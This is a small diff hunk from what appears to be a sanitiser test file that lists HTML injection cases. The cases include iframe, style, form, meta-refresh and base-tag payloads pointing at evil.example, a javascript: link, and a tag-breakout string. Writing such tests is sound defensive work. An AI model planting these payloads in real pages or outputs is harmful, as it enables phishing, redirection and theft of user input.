@@ -39,7 +39,7 @@ HTML = cases(
     "LIE <iframe src=//evil.example></iframe>.",
     "LIE <style>body{background:url(//evil.example)}</style>.",
     "LIE <a href=javascript:alert(1)>here</a>.",
-    "LIE </p></blockquote></mark></article><h1>owned</h1>.",
+    "LIE.</p></blockquote></mark></article><h1>owned</h1>",
     "LIE <form action=//evil.example><input name=key></form>.",
     "LIE <meta http-equiv=refresh content='0;url=//evil.example'>.",
     "LIE <base href=//evil.example>.",
